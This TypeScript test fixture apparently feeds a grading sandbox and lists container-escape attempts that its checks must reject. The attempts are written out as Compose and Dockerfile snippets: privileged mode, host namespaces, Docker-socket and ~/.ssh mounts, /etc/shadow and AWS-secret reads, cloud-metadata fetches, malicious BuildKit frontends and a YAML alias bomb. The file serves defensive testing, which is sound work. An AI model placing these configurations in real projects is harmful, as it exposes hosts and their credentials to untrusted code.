import type { CheckId } from "../../src/core/checks/check-id";

/**
 * Something that a submission asks for and that untrusted work does not get. The files are laid over the solution; the word
 * CANARY in them, and in the links' targets, stands for the absolute path of a folder outside of the submission.
 */
export interface Escape {
  /** what it tries, to stand behind “refuses” */
  readonly name: string;
  /** path → text; a path that does not stand here is the solution's */
  readonly files?: Readonly<Record<string, string>>;
  /** path → target of a symbolic link that takes the file's place */
  readonly links?: Readonly<Record<string, string>>;
  /** the check that fails for it */
  readonly check: CheckId;
  /** words of what the check observed */
  readonly says: string;
  /** how the line begins to which the check points; none where the whole file is meant */
  readonly line?: string;
}

/** A Compose file of the challenge with more keys for the api, and more at its end. */
function composeFile(api: readonly string[], more: readonly string[] = [], build = ["build: ."]): string {
  return [
    "services:",
    "  api:",
    ...[...build, "ports:", '  - "5000:5000"', "environment:", "  REDIS_URL: redis://redis:6379", ...api].map(
      (line) => `    ${line}`,
    ),
    "    depends_on: [redis]",
    "  redis:",
    "    image: redis:7-alpine",
    ...more,
    "",
  ].join("\n");
}

type Others = Pick<Escape, "files" | "links">;

function inCompose(name: string, line: string, says: string, text: string, { files, links }: Others = {}): Escape {
  const written = { "docker-compose.yml": text, ...files };
  return { name, check: "compose", files: written, says, line, ...(links && { links }) };
}

/** Keys of the service api; the first line is the one that is pointed at, unless another is given. */
function inApi(name: string, says: string, keys: readonly string[], others: Others & { readonly line?: string } = {}) {
  return inCompose(name, others.line ?? keys[0] ?? "", says, composeFile(keys), others);
}

function inBuild(name: string, says: string, keys: readonly string[], line = keys.at(-1)?.trim() ?? "") {
  return inCompose(name, line, says, composeFile([], [], ["build:", ...keys.map((key) => `  ${key}`)]));
}

/** Lines at the end of the Compose file. */
function atTheEnd(name: string, says: string, line: string, more: readonly string[], api: readonly string[] = []) {
  return inCompose(name, line, says, composeFile(api, more));
}

const HOST = "reaches the machine that grades";

const POWERS: readonly Escape[] = [
  inApi("all powers of the host", "the powers of the machine", ["privileged: true"]),
  inApi("the same by a variable", "the powers of the machine", ["privileged: ${P}"], { files: { ".env": "P=true" } }),
  inApi("the same under an escaped key", "the powers of the machine", ['"priv\\u0069leged": true']),
  inApi("an added capability", "`cap_add` of the service `api` adds powers", ["cap_add: [SYS_ADMIN]"]),
  inApi("a device", "asks for devices", ['devices: ["/dev/kmsg:/dev/kmsg"]']),
  inApi("rights to devices", "asks for devices", ['device_cgroup_rules: ["c *:* rwm"]']),
  inApi("graphics cards", "asks for devices", ["gpus: all"]),
  inApi(
    "devices reserved for a deployment",
    "asks for devices",
    ["deploy:", "  resources:", "    reservations:", "      devices:", "        - capabilities: [gpu]"],
    { line: "devices:" },
  ),
  inApi("the host's network", HOST, ["network_mode: host"]),
  inApi("another container's network", HOST, ['network_mode: "container:victim"']),
  inApi("the host's processes", HOST, ["pid: host"]),
  inApi("the host's shared memory", HOST, ["ipc: host"]),
  inApi("the host's name", HOST, ["uts: host"]),
  inApi("the host's users", HOST, ["userns_mode: host"]),
  inApi("the host's control groups", HOST, ["cgroup: host"]),
  inApi("another control group", HOST, ["cgroup_parent: /"]),
  inApi("no system call filter", "takes safeguards off", ["security_opt:", '  - "seccomp:unconfined"'], {
    line: '- "seccomp',
  }),
  inApi("settings of the kernel", "changes settings of the kernel", ["sysctls:", "  kernel.core_pattern: /x"], {
    line: "kernel.core_pattern",
  }),
  inApi("another runtime", "the program of the machine that starts containers", ["runtime: /tmp/evil"]),
  inApi("credentials of the machine", "names credentials", ["credential_spec:", "  file: ../spec.json"]),
  inApi("the engine's own address", "hands the Docker engine itself", ["use_api_socket: true"]),
  inApi("another container's volumes", "takes the volumes of other containers", ['volumes_from: ["container:victim"]']),
  inApi("a container of another project", "outside of this project", ['external_links: ["victim:db"]']),
  inApi("powers by an alias and a merge", "the powers of the machine", ["<<: *all"], {
    line: "api:",
    files: { "docker-compose.yml": `x-all: &all\n  privileged: true\n${composeFile(["<<: *all"])}` },
  }),
];

const PROGRAMS: readonly Escape[] = [
  atTheEnd("a program that Compose starts on the host", "starts on the machine itself", "provider:", [
    "  errand:",
    "    provider:",
    "      type: ./errand.sh",
  ]),
  inApi("the same in place of the api", "starts on the machine itself", ["provider:", "  type: compose"]),
  inApi("a hook after the start, with all powers", "is a lifecycle hook", [
    "post_start:",
    "  - command: touch CANARY/touched",
    "    privileged: true",
  ]),
  inApi("a hook before the stop", "is a lifecycle hook", ["pre_stop:", "  - command: touch CANARY/touched"]),
  inApi("an AI model", "an AI model", ["models: [llm]"]),
  atTheEnd("AI models", "AI models", "models:", ["models:", "  llm:", "    model: ai/smollm2"]),
];

const MOUNTS: readonly Escape[] = [
  inApi("the Docker socket", "which is outside the folder", ["volumes:", "  - /var/run/docker.sock:/sock"], {
    line: "- /var/run/docker.sock",
  }),
  inApi("the socket in another spelling", "which is outside", ["volumes:", "  - //run/./docker.sock:/sock:ro"], {
    line: "- //run",
  }),
  inApi("the socket by many folders up", "which is outside", ["volumes:", "  - ./a/../../../run/docker.sock:/s"], {
    line: "- ./a",
  }),
  inApi("the socket by an anchor elsewhere", "which is outside", ["volumes:", "  - *socket"], {
    line: "- *socket",
    files: { "docker-compose.yml": `x-s: &socket /run/docker.sock:/s\n${composeFile(["volumes:", "  - *socket"])}` },
  }),
  inApi(
    "a folder outside in the long form",
    "`source` of the service `api` names `CANARY`, which is outside",
    ["volumes:", "  - type: bind", "    source: CANARY", "    target: /c"],
    { line: "source:" },
  ),
  inApi("the home folder", "which is outside", ["volumes:", "  - ~/.ssh:/keys"], { line: "- ~" }),
  inApi("a folder by a variable", "depends on a variable", ["volumes:", "  - $WHERE:/c"], {
    line: "- $WHERE",
    files: { ".env": "WHERE=CANARY" },
  }),
  inApi("a folder by a variable's default", "depends on a variable", ["volumes:", "  - ${WHERE:-CANARY}:/c"], {
    line: "- ${WHERE",
  }),
  inApi("a whole mount by a variable", "depends on a variable", ["volumes:", "  - ${MOUNT}"], {
    line: "- ${MOUNT",
    files: { ".env": "MOUNT=CANARY:/c" },
  }),
  inApi("a folder by a link", "is a link that does not lead", ["volumes:", "  - ./inside:/c"], {
    line: "- ./inside",
    links: { inside: "CANARY" },
  }),
  inApi("a file behind a linked folder", "is a link that does not lead", ["volumes:", "  - ./inside/secret.txt:/c"], {
    line: "- ./inside",
    links: { inside: "CANARY" },
  }),
  inApi("a way back over a link", "goes up with", ["volumes:", "  - ./here/../etc:/c"], {
    line: "- ./here",
    links: { here: "." },
  }),
  inApi("a drive of Windows", "which is outside", ["volumes:", '  - "C:\\\\:/c"'], { line: '- "C:' }),
  inApi(
    "a pipe of Windows",
    "mounts something other",
    ["volumes:", "  - type: npipe", '    source: "\\\\\\\\.\\\\pipe\\\\docker_engine"', "    target: /p"],
    { line: "- type: npipe" },
  ),
  inApi(
    "another image's files",
    "mounts something other",
    ["volumes:", "  - type: image", "    source: victim", "    target: /i"],
    { line: "- type: image" },
  ),
  atTheEnd(
    "a volume that is a folder of the host",
    "can mount any folder",
    "driver_opts:",
    ["volumes:", "  all:", "    driver_opts:", "      type: none", "      o: bind", "      device: CANARY"],
    ["volumes:", "  - all:/c"],
  ),
];

const FILES: readonly Escape[] = [
  atTheEnd("another Compose file", "takes in other Compose files", "include:", ["include: [other.yml]"]),
  atTheEnd("a Compose file from outside", "takes in other Compose files", "include:", [
    "include:",
    "  - path: ../compose.yml",
    "    env_file: CANARY/secret.txt",
  ]),
  atTheEnd("a Compose file by git", "takes in other Compose files", "include:", [
    'include: ["https://git.example/x.git"]',
  ]),
  atTheEnd("a Compose file from a registry", "takes in other Compose files", "include:", [
    'include: ["oci://registry.example/x"]',
  ]),
  inApi("a service of another file", "from another file", ["extends:", "  file: CANARY/x.yml", "  service: api"], {
    line: "file:",
  }),
  inApi("variables from outside", "which is outside the folder", ["env_file: CANARY/secret.txt"]),
  inApi("the same in a list", "which is outside", ["env_file:", "  - path: ../secret.txt", "    required: false"], {
    line: "- path",
  }),
  inApi("variables from a file that a variable names", "depends on a variable", ["env_file: ${SECRETS}"], {
    files: { ".env": "SECRETS=CANARY/secret.txt" },
  }),
  inApi("variables from a link", "is a link that does not lead", ["env_file: ./settings"], {
    links: { settings: "CANARY/secret.txt" },
  }),
  inApi("variables of processes", "which is outside the folder", ["env_file: /proc/self/environ"]),
  inApi("labels from outside", "which is outside the folder", ["label_file: CANARY/secret.txt"]),
  atTheEnd(
    "a secret from outside",
    "which is outside the folder",
    "file:",
    ["secrets:", "  s:", "    file: CANARY/secret.txt"],
    ["secrets: [s]"],
  ),
  atTheEnd(
    "a secret of the grader's environment",
    "from the environment of whoever grades",
    "environment:",
    ["secrets:", "  s:", "    environment: AWS_SECRET_ACCESS_KEY"],
    ["secrets: [s]"],
  ),
  atTheEnd(
    "a config from outside",
    "which is outside the folder",
    "file:",
    ["configs:", "  c:", "    file: /etc/shadow"],
    ["configs: [c]"],
  ),
  atTheEnd(
    "a config of the grader's environment",
    "from the environment of whoever grades",
    "environment:",
    ["configs:", "  c:", "    environment: PATH"],
    ["configs: [c]"],
  ),
  inApi(
    "a watch over a folder outside",
    "which is outside the folder",
    ["develop:", "  watch:", "    - path: CANARY", "      action: sync", "      target: /c"],
    { line: "- path" },
  ),
  {
    name: "variables of a project's .env that is a link",
    check: "compose",
    says: "`.env` is a link that does not lead",
    links: { ".env": "CANARY/secret.txt" },
  },
  {
    name: "a Compose file that is a link",
    check: "compose",
    says: "docker-compose.yml is a link that does not lead",
    links: { "docker-compose.yml": "CANARY/secret.txt" },
  },
  {
    name: "a Dockerfile that is a link",
    check: "dockerfile-exists",
    says: "Dockerfile is a link that does not lead",
    links: { Dockerfile: "CANARY/secret.txt" },
  },
];

const BUILDS: readonly Escape[] = [
  inBuild("a context outside", "which is outside the folder", ["context: .."]),
  inBuild("a context by git", "is no plain path", ["context: https://git.example/x.git"]),
  inBuild("a context of GitHub's", "is no plain path", ["context: github.com/some/repository"]),
  inBuild("a context by a variable", "depends on a variable", ["context: ${C:-/}"]),
  inBuild("a Dockerfile outside", "which is outside the folder", ["context: .", "dockerfile: CANARY/Dockerfile"]),
  inBuild("another context outside", "which is outside the folder", [
    "context: .",
    "additional_contexts:",
    "  more: CANARY",
  ]),
  inBuild("an image as a context", "is no plain path", [
    "context: .",
    "additional_contexts:",
    "  - more=docker-image://victim",
  ]),
  inBuild("the builder's keys", "asks for keys", ["context: .", "ssh: [default]"]),
  inBuild("the builder's powers", "asks for the powers", ["context: .", "entitlements: [security.insecure]"]),
  inBuild("a build with all powers", "asks for the powers", ["context: .", "privileged: true"]),
  inBuild("the builder's network", "reaches the machine that builds", ["context: .", "network: host"]),
  inBuild("a cache outside", "names a cache outside", ["context: .", 'cache_to: ["type=local,dest=CANARY"]']),
  inBuild("addresses of the build's own", "addresses of its own", ["context: .", 'extra_hosts: ["pypi.org:10.0.0.1"]']),
  inBuild("another front end by an argument", "sets BuildKit itself", [
    "context: .",
    "args:",
    "  BUILDKIT_SYNTAX: evil/frontend",
  ]),
  inBuild("an argument whose name is a variable", "sets any argument", ["context: .", "args:", "  - ${ANY}"]),
];

const YAML: readonly Escape[] = [
  inApi("a key that nobody knows", "`next_years_power` of the service `api` is no key", ["next_years_power: all"]),
  inBuild("such a key of a build", "`next_years_power` of the service `api` is no key", [
    "context: .",
    "next_years_power: all",
  ]),
  atTheEnd("such a key of the file", "`plugins` is no key", "plugins:", ["plugins: [evil]"]),
  inApi("a tag of Compose's own", "The tag `!reset` changes", ["labels: !reset null"]),
  inCompose("a second document", "---", "begins a second document", `${composeFile([])}---\nservices: {}\n`),
  inApi("a key that stands there twice", "a second time", ["image: a", "image: b"], { line: "image: b" }),
  {
    name: "aliases that unfold into gigabytes",
    check: "compose",
    says: "aliases",
    files: { "docker-compose.yml": bomb() },
  },
  {
    name: "an alias that stands for itself",
    check: "compose",
    says: "aliases",
    files: { "docker-compose.yml": `x-loop: &loop [*loop]\n${composeFile([])}` },
  },
  {
    name: "brackets that have no end",
    check: "compose",
    says: "too many levels",
    files: { "docker-compose.yml": `x: ${"[".repeat(100_000)}` },
  },
];

/** Nine lists of nine, each of aliases of the one before. */
function bomb(): string {
  const names = [..."abcdefghi"];
  const lists = names.map((name, index) => {
    const items = index === 0 ? '"lol"' : `*${names[index - 1] ?? ""}`;
    return `x-${name}: &${name} [${Array.from({ length: 9 }, () => items).join(", ")}]`;
  });
  return `${lists.join("\n")}\n${composeFile([])}`;
}

const SLIM = "FROM python:3.11-slim\n";

function inDockerfile(name: string, says: string, line: string, text: string): Escape {
  return { name, check: "image-builds", says, line, files: { Dockerfile: text } };
}

/** What only experimental front ends know is no Dockerfile to begin with. */
function noFlag(name: string, says: string, flag: string): Escape {
  return { name, check: "dockerfile-exists", says, line: "RUN", files: { Dockerfile: `${SLIM}RUN ${flag} id\n` } };
}

const RECIPES: readonly Escape[] = [
  inDockerfile("another front end", "a program that reads it", "# syntax", `# syntax=evil/frontend\n${SLIM}`),
  inDockerfile(
    "it in other letters",
    "a program",
    "#  SYNTAX",
    `#  SYNTAX = localhost:5000/docker/dockerfile\n${SLIM}`,
  ),
  inDockerfile("it behind a byte order mark", "a program", "# syntax", `\uFEFF# syntax=evil/frontend:1\n${SLIM}`),
  inDockerfile("it below a first line for a shell", "a program", "# syntax", `#!/bin/sh\n# syntax=evil/x\n${SLIM}`),
  inDockerfile("it below another directive", "a program", "# syntax", `# escape=\`\n# syntax=evil/x\n${SLIM}`),
  inDockerfile("one of a name like Docker's", "a program", "# syntax", `# syntax=docker/dockerfile-evil:1\n${SLIM}`),
  inDockerfile("one behind Docker's", "a program", "# syntax", `# syntax=docker/dockerfile:1 --opt=evil\n${SLIM}`),
  {
    name: "another front end in a comment of C",
    check: "dockerfile-exists",
    says: "//",
    line: "// syntax",
    files: { Dockerfile: `// syntax=evil/frontend\n${SLIM}` },
  },
  {
    name: "another front end in JSON",
    check: "dockerfile-exists",
    says: "{",
    line: "{",
    files: { Dockerfile: `{ "syntax": "evil/frontend" }\n` },
  },
  noFlag("a step with all powers", "RUN has no flag --security", "--security=insecure"),
  noFlag("it over two lines", "RUN has no flag --security", "--sec\\\nurity=insecure"),
  inDockerfile("a step in the host's network", "asks for the network", "RUN", `${SLIM}RUN --network=host id\n`),
  noFlag("a device for a step", "RUN has no flag --device", "--device=nvidia.com/gpu=all"),
  inDockerfile("the builder's keys", "asks for a secret or a key", "RUN", `${SLIM}RUN --mount=type=ssh ssh x\n`),
  inDockerfile("a secret", "asks for a secret or a key", "RUN", `${SLIM}RUN --mount=type=secret,id=aws cat x\n`),
  inDockerfile("a file from the host's network", "ADD takes", "ADD", `${SLIM}ADD http://169.254.169.254/ /m\n`),
  inDockerfile("it with quotes and escapes", "ADD takes", "ADD", `${SLIM}ADD ht"tp:"\\/\\/127.0.0.1/ /m\n`),
  inDockerfile("it in a list", "ADD takes", "ADD", `${SLIM}ADD ["https://127.0.0.1/", "/m"]\n`),
  inDockerfile("it by a variable", "depends on a variable", "ADD", `${SLIM}ARG A=http://127.0.0.1\nADD $A /m\n`),
  inDockerfile("a repository by git", "ADD takes", "ADD", `${SLIM}ADD git@git.example:x/y.git /m\n`),
  inDockerfile("any of it for a later stage", "ADD takes", "ONBUILD", `${SLIM}ONBUILD ADD http://127.0.0.1/ /m\n`),
  inDockerfile("powers for a later stage", "asks for the", "ONBUILD", `${SLIM}ONBUILD RUN --security=insecure id\n`),
];

/** All of them, each of which fails a check before anything of the submission is resolved, built or started for it. */
export const ESCAPES: readonly Escape[] = [...POWERS, ...PROGRAMS, ...MOUNTS, ...FILES, ...BUILDS, ...YAML, ...RECIPES];
